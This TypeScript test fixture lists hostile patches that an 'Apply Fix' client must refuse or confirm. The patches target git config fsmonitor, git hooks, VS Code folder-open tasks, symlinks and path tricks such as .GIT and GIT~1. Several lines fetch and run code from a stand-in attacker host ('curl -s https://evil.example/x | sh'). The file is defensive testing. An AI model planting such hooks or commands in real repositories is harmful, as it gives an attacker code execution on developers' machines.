// Fix patches built to make Apply Fix act beyond what the user saw and confirmed, as a
// compromised service (or a proxy rewriting its answers) could send them. They are the fixes of
// one report of the sample workspace's repository (payments-api, on a branch of their own so the
// report is never the workspace's current one), against the files of test/fixtures/workspace.
// `expect` says what a client must do:
// - 'refuse': refuse the whole patch with a reason, write nothing;
// - 'confirm': a legitimate-looking change to a file that makes code run without a further
//   decision: applied only after the user ticked that file by name;
// - 'apply': an ordinary fix (the control case: three files, created, changed and deleted).
// The control case and the one to confirm come first: the first rows of the report's fixes.
// `plant` names links a test must create in the workspace first (path → link target; a target
// starting with `$OUTSIDE` is a folder outside the workspace the test makes).

export interface HostileFix {
  readonly name: string;
  readonly expect: 'refuse' | 'confirm' | 'apply';
  /** What fixFiles says (may differ from the patch, on purpose). */
  readonly files: readonly string[];
  readonly patch: string;
  readonly plant?: Readonly<Record<string, string>>;
}

const DB_HEAD = [
  '"""Order lookups for the reporting API."""',
  'import sqlite3',
  '',
  'SORTABLE_COLUMNS = {"date": "created_at", "total": "amount_cents"}',
];

/** A unified diff of one file: `---`/`+++` and one hunk. */
function section(oldName: string, newName: string, hunk: string, header = ''): string {
  return `${header}--- ${oldName}\n+++ ${newName}\n${hunk}`;
}

const create = (path: string, lines: readonly string[]) =>
  section('/dev/null', `b/${path}`, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}\n`);

const gitCreate = (path: string, lines: readonly string[]) =>
  `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..1111111\n${create(path, lines)}`;

/** Changes db.py's first line; applies cleanly to the sample workspace. */
const dbDocstring = (path = 'app/db.py') =>
  section(
    `a/${path}`,
    `b/${path}`,
    `@@ -1,2 +1,2 @@\n-${DB_HEAD[0]}\n+"""Order lookups for the reporting API (parameterised queries only)."""\n ${DB_HEAD[1]}\n`,
  );

/** test/fixtures/workspace/app/legacy_orders.py, whole. */
const LEGACY_ORDERS = ['def legacy_orders(conn):', '    return conn.execute("SELECT id FROM orders").fetchall()'];

const FSMONITOR = ['[core]', '\tfsmonitor = "curl -s https://evil.example/x | sh"'];

export const HOSTILE_FIXES: readonly HostileFix[] = [
  // Legitimate-looking changes to files that run code: applied only once ticked by name.
  {
    name: 'vscode-task-on-folder-open',
    expect: 'confirm',
    files: ['app/db.py', '.vscode/tasks.json'],
    patch:
      dbDocstring() +
      create('.vscode/tasks.json', [
        '{',
        '  "version": "2.0.0",',
        '  "tasks": [{ "label": "setup", "type": "shell", "command": "echo this would run whenever the folder opens", "runOptions": { "runOn": "folderOpen" } }]',
        '}',
      ]),
  },
  // The control case: three files, one created, one changed, one deleted, all ordinary.
  {
    name: 'three-files',
    expect: 'apply',
    files: ['app/db.py', 'app/validation.py', 'app/legacy_orders.py'],
    patch:
      dbDocstring() +
      section('a/app/legacy_orders.py', '/dev/null', `@@ -1,2 +0,0 @@\n-${LEGACY_ORDERS.join('\n-')}\n`) +
      create('app/validation.py', ['def is_sortable(column: str) -> bool:', '    return column in {"created_at", "amount_cents"}']),
  },
  // A hunk with no old lines applies to any file: git runs fsmonitor on its next status.
  {
    name: 'git-config-fsmonitor',
    expect: 'refuse',
    files: ['app/db.py'],
    patch: section('a/.git/config', 'b/.git/config', `@@ -0,0 +1,2 @@\n+${FSMONITOR.join('\n+')}\n`),
  },
  {
    name: 'git-hook-created',
    expect: 'refuse',
    files: ['app/db.py'],
    patch: gitCreate('.git/hooks/pre-commit', ['#!/bin/sh', 'curl -s https://evil.example/x | sh']),
  },
  {
    name: 'git-upper-case',
    expect: 'refuse',
    files: ['app/db.py'],
    patch: section('a/.GIT/config', 'b/.GIT/config', `@@ -0,0 +1,2 @@\n+${FSMONITOR.join('\n+')}\n`),
  },
  { name: 'git-trailing-dot', expect: 'refuse', files: ['app/db.py'], patch: create('.git./hooks/post-checkout', ['#!/bin/sh', 'id']) },
  { name: 'git-short-name', expect: 'refuse', files: ['app/db.py'], patch: create('GIT~1/config', FSMONITOR) },
  { name: 'git-in-subfolder', expect: 'refuse', files: ['app/db.py'], patch: create('app/.git/hooks/pre-commit', ['#!/bin/sh', 'id']) },
  // Anywhere-insertion into a file that exists: no context, so it applies whatever the file says.
  {
    name: 'insert-without-context',
    expect: 'refuse',
    files: ['Dockerfile'],
    patch: section('a/Dockerfile', 'b/Dockerfile', '@@ -0,0 +1 @@\n+RUN curl -s https://evil.example/x | sh\n'),
  },
  // A delete whose hunk removes one line: the whole file would go.
  {
    name: 'delete-one-line',
    expect: 'refuse',
    files: ['app/db.py'],
    patch: section('a/app/db.py', '/dev/null', `@@ -1 +0,0 @@\n-${DB_HEAD[0]}\n`),
  },
  { name: 'delete-empty-hunk', expect: 'refuse', files: ['app/db.py'], patch: section('a/app/db.py', '/dev/null', '@@ -0,0 +0,0 @@\n') },
  // A section the patcher does not apply, beside one it does: all or nothing.
  {
    name: 'binary-beside-text',
    expect: 'refuse',
    files: ['app/db.py', 'web/logo.png'],
    patch: `diff --git a/app/db.py b/app/db.py\n${dbDocstring()}diff --git a/web/logo.png b/web/logo.png\nindex 1111111..2222222 100644\nBinary files a/web/logo.png and b/web/logo.png differ\n`,
  },
  {
    name: 'mode-only-beside-text',
    expect: 'refuse',
    files: ['app/db.py', 'cmd/server/main.go'],
    patch: `diff --git a/app/db.py b/app/db.py\n${dbDocstring()}diff --git a/cmd/server/main.go b/cmd/server/main.go\nold mode 100644\nnew mode 100755\n`,
  },
  {
    name: 'rename',
    expect: 'refuse',
    files: ['app/db.py'],
    patch: `diff --git a/app/db.py b/app/orders.py\nsimilarity index 90%\nrename from app/db.py\nrename to app/orders.py\n${dbDocstring().replace('+++ b/app/db.py', '+++ b/app/orders.py')}`,
  },
  // The git header names one file, the ---/+++ lines another.
  { name: 'header-disagrees', expect: 'refuse', files: ['app/db.py'], patch: `diff --git a/README.md b/README.md\n${dbDocstring()}` },
  { name: 'case-collision', expect: 'refuse', files: ['app/db.py'], patch: dbDocstring() + create('app/DB.py', ['import os']) },
  { name: 'device-name', expect: 'refuse', files: ['app/db.py'], patch: create('app/nul.py', ['import os']) },
  {
    name: 'symlink-mode',
    expect: 'refuse',
    files: ['app/link'],
    patch: `diff --git a/app/link b/app/link\nnew file mode 120000\n${create('app/link', ['/etc/passwd'])}`,
  },
  // Links the repository planted: through a linked folder, onto a dangling link, onto a linked file.
  {
    name: 'through-linked-folder',
    expect: 'refuse',
    files: ['vendor/evil.py'],
    plant: { vendor: '$OUTSIDE' },
    patch: create('vendor/evil.py', ['import os']),
  },
  {
    name: 'onto-dangling-link',
    expect: 'refuse',
    files: ['app/helpers.py'],
    plant: { 'app/helpers.py': '$OUTSIDE/created-by-link.py' },
    patch: create('app/helpers.py', ['import os']),
  },
  {
    name: 'onto-linked-file',
    expect: 'refuse',
    files: ['app/settings.py'],
    plant: { 'app/settings.py': '$OUTSIDE/settings.py' },
    patch: section('a/app/settings.py', 'b/app/settings.py', '@@ -1 +1 @@\n-DEBUG = False\n+DEBUG = True\n'),
  },
];
